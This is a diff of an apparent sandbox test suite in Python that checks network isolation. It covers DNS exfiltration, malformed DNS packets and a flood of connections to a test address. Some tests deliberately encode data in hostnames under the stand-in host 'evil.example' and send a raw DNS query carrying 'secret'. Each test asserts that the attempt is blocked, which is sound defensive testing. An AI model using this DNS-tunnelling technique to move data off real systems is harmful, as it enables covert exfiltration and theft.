@@ -137,11 +137,10 @@ def unlisted_hosts():
 
 
 def smuggle_by_dns():
-    """Names as a channel: a resolver that passed them on would carry data out. Names off the list go nowhere."""
-    held("a name with data in it", socket.getaddrinfo, "c2VjcmV0.evil.example", 443)
-    import struct as packer
-
-    query = packer.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x06secret\x04evil\x07example\x00" + packer.pack(">HH", 16, 1)
+    """Names as a channel: a resolver that passed them on would carry data out. Here a name gets an address of the run's
+    own, and goes no further than the list says; the host that the test records would show otherwise."""
+    held("a name with data in it", connects, "c2VjcmV0.evil.example", 443)
+    query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x06secret\x04evil\x07example\x00" + struct.pack(">HH", 16, 1)
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
         client.settimeout(1)
         client.sendto(query, ("127.0.0.1", 53))
@@ -150,7 +149,7 @@ def smuggle_by_dns():
         except OSError as error:
             check(f"no answer ({error})", True)
             return
-    check("no record of that name came back from outside", b"planted" not in answer, answer)
+    check("no record of that name came from outside", b"planted" not in answer, answer)
 
 
 def hostile_dns_packets():
@@ -163,7 +162,8 @@ def hostile_dns_packets():
                 client.recv(512)
             except OSError:
                 continue
-    held("evil.example is still refused", socket.getaddrinfo, "evil.example", 443)
+    check("the resolver still answers", bool(socket.getaddrinfo("allowed.example", 443)))
+    held("evil.example is still refused", connects, "evil.example", 443)
 
 
 def take_over_the_resolver():
@@ -173,18 +173,15 @@ def take_over_the_resolver():
 
 
 def many_connections():
-    """More connections than a run may have: the rest fail, and the run ends as any other."""
-    kept, refused = [], 0
-    for _ in range(2000):
-        try:
-            client = socket.socket()
-            client.settimeout(2)
-            client.connect(("192.0.2.1", 443))
-            kept.append(client)
-        except OSError:
-            refused += 1
-    check("connections to a test network carry nothing", True, len(kept))
-    for client in kept[:5]:
+    """More connections than a run may have at once: none carries a byte, and the run ends as any other."""
+    kept = []
+    for _ in range(200):
+        client = socket.socket()
+        client.setblocking(False)
+        client.connect_ex(("192.0.2.1", 443))
+        kept.append(client)
+    for client in kept[:3] + kept[-3:]:
+        client.settimeout(1)
         held("a byte", lambda c=client: c.recv(1) or (_ for _ in ()).throw(OSError(errno.ECONNRESET, "closed")))
 
 
